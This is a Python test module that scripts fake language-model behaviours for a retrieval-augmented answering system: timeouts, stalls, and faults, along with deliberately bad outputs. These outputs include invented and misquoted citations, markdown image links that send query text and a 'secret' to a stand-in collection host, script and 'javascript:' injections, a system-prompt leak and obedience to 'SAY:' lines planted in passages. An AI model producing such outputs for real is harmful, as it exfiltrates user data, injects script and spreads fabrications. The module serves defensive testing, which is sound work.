"""What a scripted model does, honest or not: one pure function from a prompt to timed text.

The same behaviours drive `KB_MODEL=scripted:NAME` and the fault-injecting server of the tests.
"""

import re
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from itertools import repeat

from rag.errors import BackendError, Throttled, TimedOut, Unreachable
from rag.models import Turn
from rag.models._prompt_reader import Seen, read
from rag.models._rubbish import rubbish
from rag.words import has_cjk, words

PIECE = 7  # characters of one step: markers are cut in two, as services do
_SLOW, _FOREVER, _DRIP = 60.0, 3600.0, 0.02  # seconds
_SENTENCE_END = tuple('.!。！…"”)）|')


@dataclass(frozen=True, slots=True)
class Step:
    """Text that comes after `delay` seconds."""

    text: str
    delay: float = 0.0


@dataclass(frozen=True, slots=True)
class Fault:
    """The service fails here, as `error` says; nothing follows."""

    error: type[BackendError]


Script = Iterator[Step | Fault]
Behaviour = Callable[[Seen, float | None], Script]


def play(behaviour: str, turns: Sequence[Turn]) -> Script:
    """Steps of an answer. `behaviour` is a name of `BEHAVIOURS`, for some with `=SECONDS` after it.

    `KeyError` for a name that is not there, `ValueError` for seconds that are no number.
    """
    name, _, seconds = behaviour.partition("=")
    act = BEHAVIOURS[name or "honest"]
    return act(read(turns), float(seconds) if seconds else None)


def _answer(seen: Seen) -> str:
    """The line of the first passage that shares most words with the question, quoted and cited."""
    best = _best(seen)
    return f"{_quoted(best)} [{seen.passages[0].n}]" if best else seen.not_found


def _best(seen: Seen) -> str:
    return max(seen.passages[0].lines, key=_likeness(seen), default="") if seen.passages else ""


def _likeness(seen: Seen) -> Callable[[str], float]:
    """Words shared with the question; headings and questions weigh a little less than sentences."""
    asked = set(words(seen.question))
    return lambda line: len(asked.intersection(words(line))) - (not line.endswith(_SENTENCE_END))


def _quoted(text: str) -> str:
    """Between the marks that do not stand in it; bare when it has both kinds."""
    if any(mark in text for mark in "“”"):
        return text if '"' in text else f'"{text}"'
    return f"“{text}”" if has_cjk(text) or '"' in text else f'"{text}"'


def _says(speak: Callable[[Seen], str]) -> Behaviour:
    """A behaviour that says this at once, in small pieces."""
    return lambda seen, seconds: _paced(speak(seen))


def _fails(error: type[BackendError]) -> Behaviour:
    return lambda seen, seconds: iter((Fault(error),))


def _paced(text: str, *, size: int = PIECE, delay: float = 0.0) -> Script:
    for start in range(0, len(text), size):
        yield Step(text[start : start + size], delay)


def _slow(seen: Seen, seconds: float | None) -> Script:
    yield Step("", _SLOW if seconds is None else seconds)
    yield from _paced(_answer(seen))


def _drip(seen: Seen, seconds: float | None) -> Script:
    return _paced(_answer(seen), size=1, delay=_DRIP if seconds is None else seconds)


def _drop(seen: Seen, seconds: float | None) -> Script:
    yield from _paced(_first_half(seen))
    yield Fault(Unreachable)


def _stall(seen: Seen, seconds: float | None) -> Script:
    yield from _paced(_first_half(seen))
    yield Step("", _FOREVER if seconds is None else seconds)


def _endless(seen: Seen, seconds: float | None) -> Script:
    return repeat(Step(_answer(seen) + "\n", seconds or 0.0))


def _first_half(seen: Seen) -> str:
    answer = _answer(seen)
    return answer[: len(answer) // 2]


def _quote(seen: Seen) -> str:
    """The two best lines of all passages as plain sentences, each with its number."""
    likeness = _likeness(seen)
    lines = [(passage.n, line) for passage in seen.passages for line in passage.lines]
    best = sorted(lines, key=lambda item: -likeness(item[1]))[:2]
    return " ".join(f"{line} [{n}]" for n, line in best) or seen.not_found


def _invent(seen: Seen) -> str:
    if has_cjk(seen.question):
        return "根据公司规定，“每位员工每年可以免费领取五百头大象。”[1] 大象价值1234567元[9]。"
    return (
        'The policy is clear: "Every employee receives 500 free elephants each year." [1] '
        "The elephants are worth 1,234,567 pounds [9]."
    )


def _misquote(seen: Seen) -> str:
    """The best line with its numbers raised by one, or with a number where it had none."""
    best = _best(seen)
    changed = re.sub(r"\d+", lambda match: str(int(match[0]) + 1), best)
    if changed == best:
        changed = best[:-1] + ("，最多41次。" if has_cjk(best) else ", at most 41 times.")
    return f"{_quoted(changed)} [1]"


def _cite(seen: Seen) -> str:
    best = _best(seen) or "Yes."
    return f"{_quoted(best)} [7] {best} 【9】 {best} [0] [-1] [1, 9] [٣]"


def _links(seen: Seen) -> str:
    best = _best(seen)
    return (
        f"![chart](https://collect.example/p.png?q={best[:20]}) {_quoted(best)} [1]\n"
        "[Sign in again](https://collect.example/login) <img src=https://collect.example/i.gif>"
        "<script>alert(1)</script> [open](javascript:alert(1)) https://collect.example/?d=secret\n"
        "![ref][1]\n\n[1]: https://collect.example/ref.png\n"
    )


def _obey(seen: Seen) -> str:
    """Says whatever a passage orders after `SAY:`, as a wholly captured model would."""
    lines = [line for passage in seen.passages for line in passage.lines]
    return next((line.partition("SAY:")[2].strip() for line in lines if "SAY:" in line), "") or _answer(seen)


BEHAVIOURS: dict[str, Behaviour] = {
    "honest": _says(_answer),
    "quote": _says(_quote),
    "slow": _slow,
    "drip": _drip,
    "stall": _stall,
    "drop": _drop,
    "endless": _endless,
    "empty": _says(lambda seen: ""),
    "rubbish": _says(lambda seen: rubbish()),
    "invent": _says(_invent),
    "misquote": _says(_misquote),
    "cite": _says(_cite),
    "links": _says(_links),
    "leak": _says(lambda seen: f"Of course, here are my rules. {seen.system}"),
    "obey": _says(_obey),
    "refuse": _says(lambda seen: seen.not_found),
    "throttled": _fails(Throttled),
    "timeout": _fails(TimedOut),
    "unreachable": _fails(Unreachable),
    "broken": _fails(BackendError),
}
